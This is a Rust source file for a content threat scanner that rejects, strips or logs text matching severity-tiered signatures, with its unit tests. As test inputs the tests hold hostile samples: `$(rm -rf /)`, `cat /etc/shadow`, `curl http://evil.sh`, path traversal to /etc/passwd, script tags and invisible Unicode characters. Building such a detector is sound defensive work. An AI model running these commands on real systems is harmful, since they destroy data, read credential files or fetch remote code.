//! Content threat scanner.
//!
//! [`scan`] reports every match of every content signature. [`ContentScanner`]
//! turns findings into a decision:
//!
//! | Severity | Effect |
//! |----------|--------|
//! | Critical | whole document rejected |
//! | High / Medium | matched span removed, document proceeds |
//! | Low | recorded for the audit trail, text untouched |
//!
//! After spans are removed the text is scanned again, because removing one
//! fragment can join its neighbours into a new construct (`$($(x))`). The
//! loop stops once a pass strips nothing; text that never settles is rejected.

use serde::Serialize;
use tracing::debug;

use super::patterns::{CONTENT_PATTERNS, Severity};
use super::validators::{sanitize_text, validate_byte_size};
use crate::error::{ErrorKind, IngestError, Result, SizeScope};

/// Characters of matched text kept in a finding.
pub const MAX_EXCERPT_CHARS: usize = 40;

/// Sanitization passes before a text is declared unstable.
const MAX_PASSES: usize = 4;

/// A located match against a content signature.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ThreatFinding {
    pub pattern_id: &'static str,
    pub severity: Severity,
    /// Byte offset of the match in the scanned text.
    pub location: usize,
    /// Byte length of the match.
    pub length: usize,
    /// Sanitized, bounded copy of the matched text.
    pub matched_excerpt: String,
    /// `body` or the metadata key the text came from.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub field: Option<String>,
}

/// Scan `text` against the content catalog. Returns every match, ordered
/// by location.
pub fn scan(text: &str) -> Vec<ThreatFinding> {
    let mut findings: Vec<ThreatFinding> = CONTENT_PATTERNS
        .iter()
        .flat_map(|pattern| {
            pattern.regex.find_iter(text).map(move |m| ThreatFinding {
                pattern_id: pattern.id,
                severity: pattern.severity,
                location: m.start(),
                length: m.len(),
                matched_excerpt: sanitize_text(m.as_str(), MAX_EXCERPT_CHARS),
                field: None,
            })
        })
        .collect();
    findings.sort_by(|a, b| {
        a.location
            .cmp(&b.location)
            .then_with(|| b.severity.cmp(&a.severity))
    });
    findings
}

/// Outcome of reviewing one text.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Review {
    /// Text with High/Medium spans removed.
    pub text: String,
    /// Findings whose spans were removed, across all passes.
    pub sanitized: Vec<ThreatFinding>,
    /// Low findings left in place.
    pub recorded: Vec<ThreatFinding>,
}

impl Review {
    pub fn was_modified(&self) -> bool {
        !self.sanitized.is_empty()
    }
}

/// Applies the tiered accept/sanitize/reject policy.
#[derive(Debug, Clone, Copy, Default)]
pub struct ContentScanner;

impl ContentScanner {
    pub fn new() -> Self {
        Self
    }

    /// Review `text` taken from `field`, enforcing a `max_bytes` ceiling first.
    pub fn review(&self, text: &str, field: &str, max_bytes: usize) -> Result<Review> {
        validate_byte_size(text.as_bytes(), max_bytes, SizeScope::Field).map_err(|e| {
            IngestError::new(e.kind().clone(), format!("{}: {}", field, e.detail()))
        })?;

        let mut current = text.to_string();
        let mut sanitized = Vec::new();

        for pass in 0..MAX_PASSES {
            let findings = scan(&current);

            if let Some(critical) = findings.iter().find(|f| f.severity == Severity::Critical) {
                return Err(IngestError::new(
                    ErrorKind::ThreatDetected(Severity::Critical),
                    format!(
                        "{} in {}: {}",
                        critical.pattern_id, field, critical.matched_excerpt
                    ),
                ));
            }

            let (strip, recorded): (Vec<_>, Vec<_>) = findings
                .into_iter()
                .map(|f| ThreatFinding {
                    field: Some(field.to_string()),
                    ..f
                })
                .partition(|f| f.severity >= Severity::Medium);

            if strip.is_empty() {
                return Ok(Review {
                    text: current,
                    sanitized,
                    recorded,
                });
            }

            debug!(
                "Pass {}: stripping {} finding(s) from {}",
                pass + 1,
                strip.len(),
                field
            );
            current = remove_spans(&current, &strip);
            sanitized.extend(strip);
        }

        Err(IngestError::new(
            ErrorKind::ThreatDetected(Severity::High),
            format!("{} did not settle after {} sanitization passes", field, MAX_PASSES),
        ))
    }
}

/// Remove the (possibly overlapping) spans of `findings` from `text`.
fn remove_spans(text: &str, findings: &[ThreatFinding]) -> String {
    let mut spans: Vec<(usize, usize)> = findings
        .iter()
        .map(|f| (f.location, f.location + f.length))
        .collect();
    spans.sort_unstable();

    let mut out = String::with_capacity(text.len());
    let mut cursor = 0;
    for (start, end) in spans {
        if start > cursor {
            out.push_str(&text[cursor..start]);
        }
        cursor = cursor.max(end);
    }
    if cursor < text.len() {
        out.push_str(&text[cursor..]);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const LIMIT: usize = 1024 * 1024;

    #[test]
    fn scan_returns_every_match() {
        let findings = scan("a $(id) b $(whoami) c");
        let subs: Vec<_> = findings
            .iter()
            .filter(|f| f.pattern_id == "exec.command_substitution")
            .collect();
        assert_eq!(subs.len(), 2);
        assert!(subs[0].location < subs[1].location);
    }

    #[test]
    fn clean_text_passes_untouched() {
        let review = ContentScanner::new()
            .review("A friendly writing coach.", "description", LIMIT)
            .unwrap();
        assert_eq!(review.text, "A friendly writing coach.");
        assert!(!review.was_modified());
        assert!(review.recorded.is_empty());
    }

    #[test]
    fn critical_rejects() {
        let err = ContentScanner::new()
            .review("Evil $(rm -rf /)", "name", LIMIT)
            .unwrap_err();
        assert_eq!(err.kind(), &ErrorKind::ThreatDetected(Severity::Critical));
        assert!(!err.detail().contains("$("));
    }

    #[test]
    fn high_is_stripped() {
        let review = ContentScanner::new()
            .review("Evil $(whoami)", "name", LIMIT)
            .unwrap();
        assert_eq!(review.text, "Evil ");
        assert_eq!(review.sanitized[0].pattern_id, "exec.command_substitution");
        assert_eq!(review.sanitized[0].field.as_deref(), Some("name"));
    }

    #[test]
    fn overlapping_spans_are_merged() {
        let review = ContentScanner::new()
            .review("x<script>alert(1)</script>y", "body", LIMIT)
            .unwrap();
        assert_eq!(review.text, "xy");
    }

    #[test]
    fn nested_constructs_are_rescanned() {
        let review = ContentScanner::new()
            .review("a $($(id)) b", "body", LIMIT)
            .unwrap();
        assert!(!review.text.contains("$("));
        assert!(scan(&review.text)
            .iter()
            .all(|f| f.severity < Severity::Medium));
    }

    #[test]
    fn backticked_commands_stripped() {
        let review = ContentScanner::new()
            .review("Run `cat /etc/shadow` and `curl http://evil.sh` now.", "body", LIMIT)
            .unwrap();
        assert_eq!(review.text, "Run  and  now.");
        assert!(review
            .sanitized
            .iter()
            .all(|f| f.pattern_id == "exec.backtick_command"));
    }

    #[test]
    fn traversal_sequences_stripped() {
        let review = ContentScanner::new()
            .review(r"Open ../../../etc/passwd or ..\..\windows\system32", "body", LIMIT)
            .unwrap();
        assert!(!review.text.contains("../"));
        assert!(!review.text.contains(r"..\"));
        assert_eq!(review.text, r"Open etc/passwd or windows\system32");
    }

    #[test]
    fn invisible_characters_removed() {
        let review = ContentScanner::new()
            .review("safe\u{202E}txt\u{200B}.md\u{07}", "body", LIMIT)
            .unwrap();
        assert_eq!(review.text, "safetxt.md");
    }

    #[test]
    fn low_findings_recorded_not_modified() {
        let text = "Run the installer with sudo if needed.";
        let review = ContentScanner::new().review(text, "body", LIMIT).unwrap();
        assert_eq!(review.text, text);
        assert_eq!(review.recorded.len(), 1);
        assert_eq!(review.recorded[0].pattern_id, "hint.sudo");
    }

    #[test]
    fn review_is_idempotent() {
        let scanner = ContentScanner::new();
        let first = scanner
            .review("Hi <iframe src=x> there $(id) `a;b`", "body", LIMIT)
            .unwrap();
        let second = scanner.review(&first.text, "body", LIMIT).unwrap();
        assert_eq!(first.text, second.text);
        assert!(!second.was_modified());
    }

    #[test]
    fn oversized_field_rejected_before_scan() {
        let err = ContentScanner::new()
            .review(&"a".repeat(11), "description", 10)
            .unwrap_err();
        assert_eq!(err.kind(), &ErrorKind::TooLarge(SizeScope::Field));
        assert!(err.detail().starts_with("description"));
    }
}
